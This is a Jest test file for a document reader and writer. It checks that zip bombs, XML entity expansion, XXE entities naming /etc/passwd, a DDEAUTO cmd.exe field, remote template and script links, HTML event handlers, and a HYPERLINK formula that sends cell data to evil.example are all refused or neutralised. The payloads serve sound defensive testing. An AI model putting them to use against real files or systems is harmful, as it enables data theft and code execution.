/** Files made to harm whoever opens them, and files that are merely broken. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import {
  archive,
  bookEntries,
  outcome,
  paragraph,
  read,
  refused,
  report,
  word,
  written,
  xml,
} from '#fixtures/hostile-files';
import { plainText } from '../../../model';
import { UnusableFile } from './unusable-file';
import { exportFormats, writers } from './writers';

jest.setTimeout(240_000);

describe('a zip bomb', () => {
  const bomb = Buffer.alloc(200 * 2 ** 20, ' ');

  it.each(['word/document.xml', 'word/media/image1.png'])('in %s is refused before it unfolds', async (name) => {
    expect(await refused(await word(paragraph('年度报告'), { [name]: bomb }), 'a.docx')).toContain('unpacks');
  });

  it('in a workbook is refused before it unfolds', async () => {
    const entries = bookEntries('<sheetData/>');
    expect(await refused(await archive({ ...entries, 'xl/sharedStrings.xml': bomb }), 'a.xlsx')).toContain('unpacks');
  });

  it('that lies about its size is refused', async () => {
    const honest = await word(paragraph('年度报告'), { 'word/media/a.bin': Buffer.alloc(8 * 2 ** 20) });
    const lying = Buffer.from(honest);
    // The size in the central directory, which readers trust, becomes ten bytes.
    for (let at = lying.indexOf('PK\x01\x02'); at >= 0; at = lying.indexOf('PK\x01\x02', at + 4))
      if (lying.readUInt32LE(at + 24) === 8 * 2 ** 20) lying.writeUInt32LE(10, at + 24);
    expect(await refused(lying, 'a.docx')).toContain('damaged');
  });

  it('of many small entries is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 2_500 }, (_, at) => [`word/media/${at}`, 'x']));
    expect(await refused(await word(paragraph('年度报告'), many), 'a.docx')).toContain('too many entries');
  });
});

describe('XML entities', () => {
  const laughs = `<!DOCTYPE d [<!ENTITY a "${'ha'.repeat(50)}">${Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`,
  ).join('')}]>`;

  it.each([
    ['that grow', laughs],
    ['that name a file', '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
    ['under the name of a page', '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
    ['behind a page’s own type', '<!DOCTYPE html><!DOCTYPE d [<!ENTITY a "b">]>'],
  ])('%s are refused', async (_, declaration) => {
    const document = xml(`${declaration}<w:document>${paragraph('&j;&a;')}</w:document>`);
    expect(await refused(await word('', { 'word/document.xml': document }), 'a.docx')).toContain('entities');
    const sheet = xml(`${declaration}<worksheet><sheetData/></worksheet>`);
    expect(await refused(await archive({ ...bookEntries(''), 'xl/worksheets/sheet1.xml': sheet }), 'a.xlsx')).toContain(
      'entities',
    );
  });

  it('in a page stay words', async () => {
    const result = await outcome(`<?xml version="1.0"?>${laughs}<html><body><p>&j;</p></body></html>`, 'a.html');
    expect(result).toBeInstanceOf(UnusableFile);
  });
});

describe('a file that would reach outside', () => {
  it('reaches nothing: macros are left closed, links are not followed, local ones are dropped', async () => {
    let calls = 0;
    const listener = createServer((_request, response) => {
      calls += 1;
      response.end();
    }).listen(0, '127.0.0.1');
    await once(listener, 'listening');
    const address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    try {
      const relation = (id: string, type: string, target: string) =>
        `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
      const docx = await word(
        `${paragraph('示例市水务局2023年政府信息公开工作年度报告')}${paragraph('一、总体情况')}<w:p><w:hyperlink r:id="l1"><w:r><w:t>本地</w:t></w:r></w:hyperlink><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>${paragraph('无其他事项。')}`,
        {
          'word/vbaProject.bin': Buffer.from('macro'),
          'word/_rels/document.xml.rels': xml(
            `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('l1', 'hyperlink', 'file:///etc/passwd')}${relation('l2', 'image', `${address}/x.png`)}${relation('l3', 'attachedTemplate', `${address}/t.dotm`)}</Relationships>`,
          ),
        },
      );
      const { document } = await read(docx, 'a.docm');
      expect(JSON.stringify(document)).not.toMatch(/passwd|DDEAUTO|cmd\.exe/);
      const page = `<html><head><link rel="stylesheet" href="${address}/a.css"><script src="${address}/a.js"></script></head><body><h1>示例市水务局2023年政府信息公开工作年度报告</h1><h2>一、总体情况</h2><p>本年度按计划完成。</p><img src="${address}/a.png"><iframe src="${address}"></iframe></body></html>`;
      await read(page, 'a.html');
      const sheet = `<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${address}")</f><v>示例市水务局2023年政府信息公开工作年度报告</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>一、总体情况</t></is></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>本年度按计划完成。</t></is></c></row></sheetData>`;
      const link = xml(
        `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>`,
      );
      const book = await archive(bookEntries(sheet, { 'xl/externalLinks/externalLink1.xml': link }));
      expect(JSON.stringify((await read(book, 'a.xlsx')).document)).not.toContain('WEBSERVICE');
      expect(calls).toBe(0);
    } finally {
      listener.close();
    }
  });

  it('brings no script, style or address of one along', async () => {
    const page = `<html><body><h1>示例市水务局2023年政府信息公开工作年度报告</h1><h2>一、总体情况</h2><p onclick="steal()">按计划<script>steal()</script><style>p{}</style>完成<a href="javascript:steal()">。</a><svg onload="steal()"></svg><noscript>steal()</noscript></p></body></html>`;
    const { document } = await read(page, 'a.html');
    expect(document.sections.map(({ body }) => plainText(body))).toEqual(['按计划完成。']);
    expect(JSON.stringify(document)).not.toMatch(/steal|javascript/);
  });
});

describe('formulas', () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';

  it('in a file that comes in are words, and no figures', async () => {
    const sheet = (await written('csv')).toString().replace(/,0\r\n/, `,"${formula.replaceAll('"', '""')}"\r\n`);
    const { document, unmapped } = await read(sheet, 'a.csv');
    expect(unmapped.map(({ text }) => text).join()).toContain('=HYPERLINK');
    expect(JSON.stringify(document)).not.toContain('=HYPERLINK');
  });

  it('in a file that goes out are words', async () => {
    const { document } = report();
    const source = {
      document: { ...document, title: formula },
      organization: { code: 'X', name: '@SUM(1)', kind: null, regionCode: null },
    };
    const csv = await writers.csv.write(source);
    expect(csv).toContain("'@SUM(1)");
    expect(String(csv)).not.toMatch(/(^|,)"?[=@]/m);
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(Buffer.from(await writers.xlsx.write(source))).buffer);
    expect(workbook.getWorksheet('报告信息')?.getCell('B1').value).toBe(formula);
  });
});

describe('a file with the wrong name', () => {
  it.each(
    exportFormats.flatMap((format) =>
      ['docx', 'xlsx', 'html', 'txt', 'exe'].map((suffix) => [format, suffix] as const),
    ),
  )('%s called .%s is read for what it is', async (format, suffix) => {
    const result = await outcome(await written(format), `report.${suffix}`);
    // Nothing but its name tells a table of commas from text.
    if (format === 'csv') return;
    expect(result).toMatchObject({ document: { year: 2023, layout: 'v2021' } });
  });

  it.each([
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10])],
    ['an old Word file', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4_000, 3)])],
    ['another archive', deflateRawSync(Buffer.alloc(10_000))],
    ['nothing', ''],
  ])('is refused with a reason: %s', async (_, content) => {
    await refused(content, 'report.docx');
  });
});

describe('a file that was cut off or damaged', () => {
  it.each(exportFormats)('is read as far as it goes, or refused: %s', async (format) => {
    const whole = await written(format);
    for (const share of [0.02, 0.2, 0.5, 0.9, 0.99])
      await outcome(whole.subarray(0, Math.floor(whole.length * share)), `report.${format}`);
  });

  it.each(exportFormats)('with bytes changed is read, or refused: %s', async (format) => {
    const whole = await written(format);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 40 }),
        async (changes) => {
          const copy = Buffer.from(whole);
          for (const [at, byte] of changes) copy[at] = byte;
          await outcome(copy, `report.${format}`);
        },
      ),
      { numRuns: 12 },
    );
  });

  it('of any bytes is read, or refused', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('', 'PK\x03\x04', '<html>', '{"', '\uFEFF', 'a,b\n'),
        fc.uint8Array({ maxLength: 2_000 }),
        fc.constantFrom('a.docx', 'a.xlsx', 'a.html', 'a.csv', 'a.json', 'a.txt'),
        async (start, bytes, name) => {
          await outcome(Buffer.concat([Buffer.from(start), bytes]), name);
        },
      ),
      { numRuns: 300 },
    );
  });
});
